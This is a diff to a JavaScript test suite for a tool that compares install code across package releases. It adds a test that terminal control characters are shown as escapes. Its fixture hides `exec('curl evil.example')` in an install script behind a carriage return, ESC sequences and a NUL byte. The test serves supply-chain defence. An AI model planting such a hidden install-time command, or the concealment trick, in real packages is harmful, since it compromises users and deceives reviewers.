@@ -65,12 +65,21 @@ describe(`the install-code diff`, () => {
     assert.ok(lines.includes(`+    "url": "https://evil.example"`), lines.join(`\n`));
   });
 
-  it(`names binary files with their hashes instead of dumping them`, () => {
+  it(`names files that are not UTF-8 text with their hashes instead of dumping them`, () => {
     const withBinary = {...MANIFEST, scripts: {postinstall: `node install.js && ./tool`}};
-    const before = release(`esb@1.0.0`, withBinary, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB, tool: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1])});
-    const after = release(`esb@1.0.1`, withBinary, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB, tool: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 2])});
+    const before = release(`esb@1.0.0`, withBinary, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB, tool: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0xff, 1])});
+    const after = release(`esb@1.0.1`, withBinary, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB, tool: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0xff, 2])});
     const lines = texts(before, after);
     assert.deepEqual(lines, [`Binary tool changed: ${before.files.tool} → ${after.files.tool}`]);
+  });
+
+  it(`shows what a terminal would hide or overwrite as escapes: a carriage return, ESC sequences, a NUL byte`, () => {
+    const before = release(`esb@1.0.0`, MANIFEST, {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB});
+    const hidden = `const lib = require('./lib.js');\nlib.prepare();\nrequire('child_process').exec('curl evil.example')\r+console.log("setup done")\u001b[1A\u0000;\n`;
+    const after = release(`esb@1.0.1`, MANIFEST, {[`install.js`]: hidden, [`lib.js`]: LIB});
+    const lines = texts(before, after);
+    assert.ok(lines.includes(`+require('child_process').exec('curl evil.example')\\r+console.log("setup done")\\e[1A\\0;`), lines.join(`\n`));
+    assert.ok(lines.every(line => !/[\r\u001b\u0000]/.test(line)));
   });
 
   it(`names files over the size limit with their hashes`, () => {
